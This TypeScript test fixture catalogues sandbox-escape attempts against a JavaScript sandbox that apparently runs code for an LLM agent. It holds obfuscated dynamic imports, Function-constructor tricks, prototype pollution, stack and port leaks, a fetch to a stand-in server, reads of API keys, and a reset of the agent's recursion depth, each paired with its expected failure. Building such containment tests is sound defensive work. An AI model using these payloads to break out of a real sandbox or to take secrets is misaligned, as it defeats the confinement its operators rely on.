/**
 * Ways out of the sandbox, as a table: what each attempt tries to reach, its code (the body of an
 * async function), and how it must fail. `$URL` stands for a server that must never be asked,
 * `$FILE` for a file that must never be touched.
 */

/** One attempt. */
export interface Escape {
  readonly reach: string;
  readonly code: string;
  /** What its value, or the error that it throws, looks like when it has failed. */
  readonly fails: RegExp;
}

const row = (reach: string, code: string, fails: RegExp): Escape => ({ reach, code, fails });
const IMPORT = /[Mm]odules cannot be imported/;
const REFUSED = /Modules cannot be imported|modules cannot be imported|SyntaxError|ReferenceError/;
const NONE = /^"?undefined"?$/;
const BUILT_IN = /TypeError: .*(?:built-in|read only|not extensible|Cannot redefine)/;

/** Names of the platform that must be gone, whatever they are asked for. */
const GONE =
  ("Deno process require module exports Buffer global window self postMessage close name " +
    "onmessage importScripts Worker SharedWorker BroadcastChannel MessageChannel MessagePort fetch " +
    "WebSocket EventSource XMLHttpRequest Request Response Headers FormData Blob File FileReader " +
    "caches localStorage sessionStorage indexedDB navigator location WebAssembly setImmediate " +
    "clearImmediate reportError alert confirm prompt addEventListener removeEventListener " +
    "EventTarget Event ErrorEvent PromiseRejectionEvent ReadableStream WritableStream " +
    "TransformStream CompressionStream ImageData createImageBitmap WorkerGlobalScope " +
    "WorkerLocation WorkerNavigator GPU __bootstrap ShadowRealm").split(" ");

const constructors: readonly [string, string][] = [
  ["Function", "Function"],
  ["Function by new", "((text) => new Function(text))"],
  ["an arrow's constructor", "(()=>{}).constructor"],
  ["an async function's constructor", "(async()=>{}).constructor"],
  ["a generator's constructor", "(function*(){}).constructor"],
  ["an async generator's constructor", "(async function*(){}).constructor"],
  ["a method's constructor", "({m(){}}).m.constructor"],
  ["a class's constructor", "(class{}).constructor"],
  ["a native's constructor", "Math.max.constructor"],
  ["a bound function's constructor", "Math.max.bind().constructor"],
  [
    "a getter's constructor",
    "Object.getOwnPropertyDescriptor(Map.prototype,'size').get.constructor",
  ],
  ["FINAL's constructor", "FINAL.constructor"],
  ["llm_query's constructor", "llm_query.constructor"],
  ["a tool's constructor", "Object.getPrototypeOf(tools.x).constructor"],
  ["print's constructor", "print.constructor"],
  ["console.log's constructor", "console.log.constructor"],
  ["setTimeout's constructor", "setTimeout.constructor"],
  ["Array's iterator's constructor", "[][Symbol.iterator].constructor"],
  ["the typed arrays' constructor", "Object.getPrototypeOf(Uint8Array).constructor"],
  ["eval's constructor", "eval.constructor"],
  ["Proxy's constructor", "Proxy.constructor"],
  ["a proxy of Function", "new Proxy(Function, {})"],
  ["Reflect.construct with another target", "((...a) => Reflect.construct(Function, a, class {}))"],
  ["a subclass of Function", "((text) => new (class extends Function {})(text))"],
  [
    "a subclass of the async one",
    "((text) => new (class extends (async()=>{}).constructor {})(text))",
  ],
  ["Function's prototype", "Function.prototype.constructor"],
  ["a bound Function", "Function.bind(null)"],
  ["Function by call", "((...a) => Function.call(null, ...a))"],
  ["Function by apply", "((...a) => Function.apply(null, a))"],
  [
    "a species",
    "class A extends Array { static get [Symbol.species]() { return Function } }; Function",
  ],
  ["the URL class", "URL.constructor"],
  ["an Intl format", "new Intl.NumberFormat().format.constructor"],
  ["a Temporal method", "Temporal.Now.instant.constructor"],
  ["a promise's resolver", "Promise.withResolvers().resolve.constructor"],
  ["a proxy's revoker", "Proxy.revocable({}, {}).revoke.constructor"],
  ["a host error", "(await llm_query(undefined).catch((e) => e)).constructor.constructor"],
];

/** Texts that load a module, one for each way to write it. */
const imports: readonly [string, string][] = [
  ["plainly", `import("node:fs")`],
  ["of a URL", `import("$URL/x.js")`],
  ["of a package", `import("npm:left-pad")`],
  ["of data", `import("data:text/javascript,export default 1")`],
  ["of a file", `import("file://$FILE")`],
  ["of a blob", `import("blob:null/1")`],
  ["with a comment between", `import/**/("node:fs")`],
  ["with a line between", `import\\n("node:fs")`],
  ["with attributes", `import("$FILE", {with: {type: "json"}})`],
  ["deferred", `import.defer("node:fs")`],
  ["as source", `import.source("node:fs")`],
  ["its meta", `import.meta.url`],
  ["in a template", "`${import('node:fs')}`"],
  ["in a class", `class { static x = import("node:fs") }`],
  ["in a default", `((a = import("node:fs")) => a)()`],
  ["after an HTML comment", `1 <!-- x\\n, import("node:fs")`],
  ["with an escaped letter", `im\\\\u0070ort("node:fs")`],
];

const rows: Escape[] = [
  ...GONE.map((name) => row(`the global ${name}`, `return typeof ${name}`, NONE)),
  ...constructors.map(([reach, maker]) =>
    row(
      `a module through ${reach}`,
      maker.includes(";")
        ? `${maker.split(";")[0]}; return await (${
          maker.split(";")[1]
        })('return import("node:fs")')()`
        : `return await (${maker})('return import("node:fs")')()`,
      IMPORT,
    )
  ),
  ...imports.map(([way, text]) =>
    row(`a module by eval, ${way}`, `return await (0, eval)(${quote(text)})`, REFUSED)
  ),
  row("a module by direct eval", `return await eval("im" + "port('node:fs')")`, IMPORT),
  row(
    "a module by a text with two faces",
    `let n = 0;
    return await Function({toString: () => n++ ? "return import('node:fs')" : "return 7"})()`,
    /^7$/,
  ),
  row(
    "a module through pieces",
    `return Function("/*", "*/){return import('node:fs')}, function(")`,
    IMPORT,
  ),
  row(
    "a module through pieces of the word",
    `return await Function("im", "port", "return im" + "port('node:fs')")()`,
    IMPORT,
  ),
  row("a module by a timer's text", `return setTimeout("import('node:fs')")`, /takes a function/),
  row(
    "a module by an interval's text",
    `return setInterval("import('node:fs')")`,
    /takes a function/,
  ),
  row("a module by a microtask's text", `return queueMicrotask("import('node:fs')")`, /TypeError/),
  row(
    "a module by a handler's text",
    `const c = new AbortController();
    c.signal.onabort = "import('node:fs')"; c.abort(); return typeof c.signal.onabort`,
    /null|undefined|string|object/,
  ),
  row(
    "a module by JSON",
    `return JSON.parse('{"__proto__": 1}', function () { return this.constructor.constructor("return import('node:fs')")() })`,
    IMPORT,
  ),
  row(
    "a module by replace",
    `return "x".replace("x", Function("return import('node:fs')"))`,
    IMPORT,
  ),
  row(
    "a module by a finalizer",
    `return new FinalizationRegistry(Function("import('node:fs')"))`,
    IMPORT,
  ),
  row("Deno by this", `return typeof (function () { return this })().Deno`, NONE),
  row("Deno by eval's this", `return typeof (0, eval)("this").Deno`, NONE),
  row("Deno by Function's this", `return typeof Function("return this")().Deno`, NONE),
  row(
    "Deno by the prototype of the global",
    `return Object.getPrototypeOf(globalThis) === Object.prototype`,
    /^true$/,
  ),
  row(
    "accessors left on the global",
    `return Reflect.ownKeys(globalThis).filter((k) => {
    const d = Object.getOwnPropertyDescriptor(globalThis, k); return d.get || d.set }).length`,
    /^0$/,
  ),
  row(
    "symbols left on the global",
    `return Object.getOwnPropertySymbols(globalThis).length`,
    /^0$/,
  ),
  row(
    "Deno by a with block",
    `return Function("with (globalThis) { return typeof Deno + typeof process }")()`,
    /^"?undefinedundefined"?$/,
  ),
  row(
    "the caller of a function",
    `return (function f() { const all = []; for (let c = f.caller; c && all.length < 9; c = c.caller) all.push(String(c)); return all.filter((t) => !/caller|escape/.test(t)).length })()`,
    /^0$|TypeError/,
  ),
  row(
    "the caller of an engine function",
    `return new Promise((done) => queueMicrotask(function g() { done([g.caller, arguments.callee.caller].every((c) => !c)) }))`,
    /true|TypeError/,
  ),
  row(
    "the engine's frames by a hook",
    `Error.prepareStackTrace = (_, sites) => sites; return typeof new Error("x").stack`,
    /string/,
  ),
  row(
    "the engine's frames by another Error",
    `globalThis.Error = { prepareStackTrace: (_, sites) => sites };
    try { null.x } catch (e) { return typeof e.stack }`,
    /string/,
  ),
  row(
    "the engine's frames by a definition",
    `Object.defineProperty(Error, "prepareStackTrace", { value: () => 1 })`,
    BUILT_IN,
  ),
  row(
    "the engine's files by a stack",
    `try { llm_complete.call(null, 1).catch(() => {}); null.x } catch (e) { return /file:|repl\\/|ext:|node:/.test(e.stack) }`,
    /^false$/,
  ),
  row(
    "the engine's files by captureStackTrace",
    `const o = {}; Error.captureStackTrace(o); return /file:|repl\\/|ext:/.test(o.stack)`,
    /^false$/,
  ),
  row(
    "the engine's files by a rejection",
    `return /file:|\\/repl\\/|ext:/.test((await llm_query("x", {tools: 5}).catch((e) => e)).stack)`,
    /^false$/,
  ),
  row(
    "the engine's files at the end of the stack",
    `let s; (function f() { try { f() } catch (e) { s ??= e.stack } })(); return /file:|\\/repl\\/|ext:/.test(s)`,
    /^false$/,
  ),
  row(
    "the port by dispatchEvent",
    `const seen = []; Object.getPrototypeOf(AbortSignal).prototype.dispatchEvent = function () { seen.push(this) };
    await llm_query("x"); return seen.length`,
    /^0$|TypeError/,
  ),
  row(
    "the port by a definition",
    `Object.defineProperty(Object.getPrototypeOf(AbortSignal).prototype, "dispatchEvent", { value() {} })`,
    /Cannot redefine/,
  ),
  row(
    "the port by getParent",
    `const seen = []; Object.getPrototypeOf(AbortSignal).prototype.getParent = function () { seen.push(this) };
    await llm_query("x"); return seen.length`,
    /^0$|TypeError/,
  ),
  row(
    "the port by a listener on the global",
    `const seen = []; const on = Object.getPrototypeOf(AbortSignal).prototype.addEventListener;
    on.call(globalThis, "message", (e) => seen.push(e)); await llm_query("x"); return seen.length`,
    /^0$|TypeError/,
  ),
  row(
    "a class of the platform by an event",
    `const c = new AbortController(); let e; c.signal.onabort = (x) => e = x; c.abort();
    return Object.isFrozen(e.constructor.prototype) && e.constructor.constructor("return typeof Deno")()`,
    NONE,
  ),
  row(
    "the global by an event's path",
    `const c = new AbortController(); let path; c.signal.onabort = (x) => path = x.composedPath(); c.abort(); return path.length`,
    /^1$/,
  ),
  row(
    "what the engine awaits, by then",
    `Object.prototype.then = function () {}; return typeof {}.then`,
    /undefined|TypeError/,
  ),
  row(
    "what the engine awaits, by a getter",
    `Object.defineProperty(Object.prototype, "then", { get() { return 1 } })`,
    BUILT_IN,
  ),
  row(
    "what the engine awaits, by __defineGetter__",
    `Object.prototype.__defineGetter__("then", () => 1)`,
    BUILT_IN,
  ),
  row(
    "what the engine awaits, by Array's then",
    `Array.prototype.then = 1; return typeof [].then`,
    /undefined|TypeError/,
  ),
  row(
    "what the engine awaits, by Promise's then",
    `const then = Promise.prototype.then; Promise.prototype.then = () => 1; return Promise.prototype.then === then`,
    /true|TypeError/,
  ),
  row(
    "what the engine awaits, by a constructor",
    `Promise.prototype.constructor = class {}; return Promise.prototype.constructor === Promise`,
    /true|TypeError/,
  ),
  row(
    "the engine's promises, by a species",
    `Object.defineProperty(Promise, Symbol.species, { get() { throw 1 }, configurable: true }); return (await llm_query("a")).value`,
    /Cannot redefine/,
  ),
  row(
    "what the engine stores, by an index setter",
    `Object.defineProperty(Array.prototype, 0, { set() {} })`,
    BUILT_IN,
  ),
  row(
    "what the engine stores, by defineProperties",
    `Object.defineProperties(Array.prototype, { 1: { get() {} } })`,
    BUILT_IN,
  ),
  row(
    "what the engine stores, by Reflect",
    `return Reflect.defineProperty(Array.prototype, "2", { set() {} })`,
    BUILT_IN,
  ),
  row(
    "what the engine stores, by __defineSetter__",
    `Array.prototype.__defineSetter__(0, () => {})`,
    BUILT_IN,
  ),
  row(
    "what the engine stores, by a proxy prototype",
    `Object.setPrototypeOf(Array.prototype, new Proxy({}, {}))`,
    BUILT_IN,
  ),
  row("what the engine stores, by __proto__", `Array.prototype.__proto__ = {}`, BUILT_IN),
  row(
    "a built-in behind a proxy",
    `Object.defineProperty(new Proxy(Array.prototype, {}), 0, { set() {} })`,
    BUILT_IN,
  ),
  row("a built-in behind a revocable proxy", `Proxy.revocable(Object.prototype, {})`, BUILT_IN),
  row("the global behind a proxy", `new Proxy(globalThis, {})`, BUILT_IN),
  row(
    "descriptors of the engine, by get",
    `Object.prototype.get = () => 1; return typeof {}.get`,
    /undefined|TypeError/,
  ),
  row(
    "descriptors of the engine, by value",
    `Object.prototype.value = 1; Object.prototype.writable = true; return typeof {}.value`,
    /undefined|TypeError/,
  ),
  row(
    "messages of the engine, by toJSON",
    `Object.prototype.toJSON = () => 1; Array.prototype.toJSON = () => 2; return JSON.stringify([{}])`,
    /\[\{\}\]|TypeError/,
  ),
  row("a frozen built-in", `Object.freeze(Array.prototype)`, BUILT_IN),
  row("a frozen global", `Object.freeze(globalThis)`, BUILT_IN),
  row("a sealed global", `Object.seal(globalThis)`, BUILT_IN),
  row("a global that takes no names", `Reflect.preventExtensions(globalThis)`, BUILT_IN),
  row(
    "a REPL name for good",
    `Object.defineProperty(globalThis, "FINAL", { value: 1 });
    return Object.getOwnPropertyDescriptor(globalThis, "FINAL").configurable`,
    /^true$/,
  ),
  row(
    "a getter as a REPL name",
    `Object.defineProperty(globalThis, "context", { get() { return 1 } });
    return Object.getOwnPropertyDescriptor(globalThis, "context").configurable`,
    /^true$/,
  ),
  row(
    "the constructor of functions, replaced",
    `Function.prototype.constructor = 1; return Function.prototype.constructor === Function`,
    /true|TypeError/,
  ),
  row(
    "the global's dispatchEvent, replaced",
    `globalThis.dispatchEvent = 1; return typeof dispatchEvent`,
    /function|TypeError/,
  ),
  row(
    "memory shared with another agent",
    `return typeof structuredClone(new SharedArrayBuffer(8)).grow`,
    /function|DataCloneError/,
  ),
  row(
    "a port by structuredClone",
    `return typeof structuredClone({}, { transfer: [new ArrayBuffer(8)] }).port`,
    NONE,
  ),
  row("a blob's address", `return typeof URL.createObjectURL`, NONE),
  row(
    "the host by the inspector's objects",
    `return typeof $0 + typeof $_ + typeof inspect + typeof copy + typeof queryObjects`,
    /^"?(?:undefined)+"?$/,
  ),
  row(
    "the inspector by a name it uses",
    `return typeof __fast_rlm_boot + typeof __fast_rlm_parts`,
    /^"?undefinedundefined"?$/,
  ),
  row(
    "Deno's inside by a custom inspection",
    `let seen; print({ [Symbol.for("Deno.customInspect")](inspect, options) { seen = [inspect, options]; return "x" } });
    print(seen[0].constructor === Function && seen[0].constructor("return typeof Deno")())`,
    NONE,
  ),
  row(
    "Deno's inside by Node's inspection",
    `let seen = []; print({ [Symbol.for("nodejs.util.inspect.custom")](...all) { seen = all; return "x" } });
    print(seen.filter((x) => typeof x === "function" && x.constructor !== Function).length)`,
    /^0$/,
  ),
  row(
    "Deno's inside by URL's inspection",
    `let all; URL.prototype[Symbol.for("Deno.privateCustomInspect")].call(new URL("a:b"), (...x) => all = x, {});
    return all.flatMap((x) => Reflect.ownKeys(x)).filter((k) => /deno|core|ops/i.test(String(k))).length`,
    /^0$/,
  ),
  row("keys by the environment", `return Object.keys(env).length`, /^0$/),
  row(
    "keys by a REPL function's text",
    `return /api_?key|sk-|token=/i.test([FINAL, llm_query, batch_llm_query, llm_complete, commit, print].map(String).join())`,
    /^false$/,
  ),
  row(
    "the host's answers, by replacing llm_query",
    `llm_query = () => 1; return typeof llm_query`,
    /function/,
  ),
  row("the tools, by writing to them", `tools.x = 1; return typeof tools.x`, /function|TypeError/),
  row("the tools' prototype", `Object.setPrototypeOf(tools, null)`, /TypeError/),
  row(
    "the tools' inside",
    `return Reflect.ownKeys(tools).length + Reflect.ownKeys(tools.a.b).filter((k) => !["name", "length"].includes(k)).length`,
    /^0$/,
  ),
  row(
    "the environment, by writing to it",
    `env.PATH = "x"; return env.PATH`,
    /undefined|TypeError/,
  ),
  row(
    "a number in place of a call's",
    `return (await llm_query("x", { call: -1, id: NaN, kind: "result", __proto__: { name: "tool" } })).call`,
    /llm_query/,
  ),
  row(
    "the host's memory by a deep schema",
    `let s = {}; for (let i = 0; i < 1e5; i++) s = { a: s }; return await llm_query("x", { schema: s })`,
    /Error/,
  ),
  row(
    "the host's memory by a long schema",
    `return await llm_query("x", { schema: { a: "x".repeat(5e6) } })`,
    /Error/,
  ),
  row(
    "a tool by a name of prototypes",
    `return (await tools.__proto__.constructor({ a: 1 }).catch((e) => e)) ?? 1`,
    /./,
  ),
  row("the process by exit", `return Deno.exit(3)`, /ReferenceError/),
  row("the worker by close", `return self.close()`, /ReferenceError/),
  row("the process by kill", `return process.kill(process.pid, "SIGKILL")`, /ReferenceError/),
  row(
    "standard output",
    `return Deno.stdout.writeSync(new TextEncoder().encode('{"type":"final"}'))`,
    /ReferenceError/,
  ),
  row("the network by fetch", `return await fetch("$URL")`, /ReferenceError/),
  row(
    "the network by a URL object",
    `const u = new URL("$URL"); u.searchParams.append("a", "b"); return u.href.length > 0`,
    /true/,
  ),
  row("a channel to another agent", `return new BroadcastChannel("rlm")`, /ReferenceError/),
  row("a cache on disk", `return await caches.open("x")`, /ReferenceError/),
  row(
    "another realm by a worker",
    `return new Worker("data:text/javascript,1", { type: "module" })`,
    /ReferenceError/,
  ),
  row("another realm by ShadowRealm", `return new ShadowRealm()`, /ReferenceError/),
  row(
    "another realm by WebAssembly",
    `return new WebAssembly.Memory({ initial: 1 })`,
    /ReferenceError/,
  ),
  row(
    "a file by WebAssembly streaming",
    `return WebAssembly.compileStreaming("$FILE")`,
    /ReferenceError/,
  ),
  row(
    "a depth that agents keep",
    `globalThis.depth = 0; globalThis.maxDepth = 99; globalThis.RLM_DEPTH = 0; return Object.keys(await llm_query("x")).join()`,
    /call,value/,
  ),
];

/** Every attempt. */
export const ESCAPES: readonly Escape[] = rows;

function quote(text: string): string {
  return "`" + text.replaceAll("`", "\\`").replaceAll("${", "\\${") + "`";
}
